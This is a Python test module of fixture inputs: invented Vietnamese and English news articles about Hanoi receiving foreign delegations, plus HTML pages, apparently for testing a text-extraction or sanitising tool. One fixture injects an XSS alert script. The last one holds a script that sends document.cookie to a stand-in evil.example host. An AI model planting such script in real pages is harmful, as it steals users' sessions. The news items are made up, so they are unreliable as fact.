"""Article inputs written for these tests in the style of the real page dumps (menus, captions,
"Đọc nhiều" trailers), Vietnamese and English. Names and events are invented."""

VI_VIENTIANE = """Hà Nội - Viêng Chăn mở rộng hợp tác đào tạo nghề
Trang chủ | Chính trị | Quốc tế | Xã hội
Thứ Tư, 12/03/2025 16:20
Sáng 12/3, tại trụ sở UBND Thành phố, Phó Chủ tịch UBND Thành phố Hà Nội Lê Hồng Sơn đã tiếp Đoàn đại biểu Thủ đô Viêng Chăn do đồng chí Bounmy Keophila, Phó Đô trưởng Thủ đô Viêng Chăn làm Trưởng đoàn.
Phó Chủ tịch Lê Hồng Sơn tiếp Đoàn đại biểu Thủ đô Viêng Chăn
Tại buổi tiếp, Phó Chủ tịch UBND Thành phố Lê Hồng Sơn cho biết hai bên đang đàm phán biên bản ghi nhớ về hợp tác đào tạo nghề và giáo dục giai đoạn 2025-2028.
Phó Đô trưởng Bounmy Keophila cảm ơn sự đón tiếp chu đáo và mong muốn hai Thủ đô tăng cường trao đổi học sinh, giáo viên các trường nghề trong thời gian tới.
Hai bên cũng thống nhất sẽ sớm tổ chức tuần văn hóa Hà Nội tại Viêng Chăn vào cuối năm nay./.
Đọc nhiều
Giá xăng dầu hôm nay giảm nhẹ
Thời tiết Hà Nội cuối tuần có mưa rào
"""

VI_TWO_MEETINGS = """Lãnh đạo Hà Nội tiếp Đại sứ Lào tại Việt Nam
Thời sự | Đối ngoại
Chiều 20/2, Chủ tịch UBND Thành phố Hà Nội Phạm Quang Vinh đã tiếp Đại sứ Lào tại Việt Nam Somphone Vilayvong nhân dịp Đại sứ bắt đầu nhiệm kỳ công tác.
Chủ tịch UBND Thành phố Phạm Quang Vinh đề nghị Đại sứ tiếp tục thúc đẩy hợp tác giữa Hà Nội và Thủ đô Viêng Chăn trên các lĩnh vực văn hóa, du lịch và giáo dục.
Đại sứ Somphone Vilayvong khẳng định sẽ làm cầu nối để hai Thủ đô triển khai hiệu quả các nội dung hợp tác đã ký kết.
* Trước đó, sáng 19/2, Bí thư Thành ủy Hà Nội Trương Minh Đức đã tiếp xã giao Đại sứ Somphone Vilayvong tại trụ sở Thành ủy.
Bí thư Thành ủy Trương Minh Đức chúc Đại sứ hoàn thành tốt nhiệm vụ và mong muốn quan hệ giữa hai Thủ đô ngày càng gắn bó, thiết thực.
Tin liên quan
Hà Nội tổ chức lễ hội mùa xuân
"""

EN_LOS_ANGELES = """Hanoi and Los Angeles discuss a sister city partnership
Home | Politics | World | Business
On the afternoon of March 5, Vice Chairman of the Hanoi People's Committee Tran Quoc Bao received a delegation of the City of Los Angeles led by Deputy Mayor Karen Whitfield.
Vice Chairman Tran Quoc Bao said the two cities were negotiating a memorandum of understanding on cooperation in urban transport and tourism.
Deputy Mayor Karen Whitfield said Los Angeles hoped to sign the sister city agreement with Hanoi within the year and to send a trade delegation in the autumn.
Related news
Hanoi welcomes more international visitors
"""

SCRIPT_IN_TEXT = """Hà Nội tiếp đoàn đại biểu thành phố Jakarta
Chiều 8/4, Phó Chủ tịch UBND Thành phố Hà Nội Nguyễn Thị Lan đã tiếp đoàn đại biểu Hội đồng Thủ đô Jakarta do ông Rudi Hartono làm Trưởng đoàn. <script>alert('xss')</script>
Hai bên trao đổi về kinh nghiệm quản lý đô thị, giao thông công cộng và bảo vệ môi trường tại hai Thủ đô trong thời gian tới.
"""

HTML_PAGE = """<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8"><title>Hà Nội tiếp Đoàn đại biểu thành phố Jakarta</title>
<script>var tracker = "analytics";</script><style>body { color: red }</style></head>
<body><nav><a href="/">Trang chủ</a> | <a href="/thoi-su">Thời sự</a></nav>
<article>
<h1>Hà Nội tiếp Đoàn đại biểu thành phố Jakarta</h1>
<p>Chiều 8/4, Phó Chủ tịch UBND Thành phố Hà Nội Nguyễn Thị Lan đã tiếp Đoàn đại biểu Hội đồng Thủ đô Jakarta do ông Rudi Hartono, Phó Chủ tịch Hội đồng Thủ đô Jakarta làm Trưởng đoàn.</p>
<p>Hai bên trao đổi về kinh nghiệm quản lý đô thị, giao thông công cộng và bảo vệ môi trường, đồng thời thống nhất thúc đẩy hợp tác giữa hai Thủ đô trong thời gian tới.</p>
<p>Ông Rudi Hartono mong muốn Hà Nội chia sẻ kinh nghiệm phát triển hệ thống xe buýt nhanh và đường sắt đô thị.</p>
</article>
<footer>Bản quyền thuộc về Báo điện tử</footer></body></html>
"""

BROKEN_HTML = """<html><head><title>Trang chủ</title></head><body><div class="menu"><ul><li><a href="/">Trang chủ</a>
<li><a href="/thoi-su">Thời sự<li><a href="/quoc-te">Quốc tế</a></ul><div class="ads"><img src="/banner.gif"><p><b>Đăng nhập</div></div>
<table><tr><td>Tin mới<td>Liên hệ</table><p></p></bo"""

SCRIPT_ONLY_HTML = """<html><head><title>x</title></head><body>
<script>document.location = "http://evil.example/?c=" + document.cookie;</script>
<div><script>alert('again')</script></div></body></html>"""
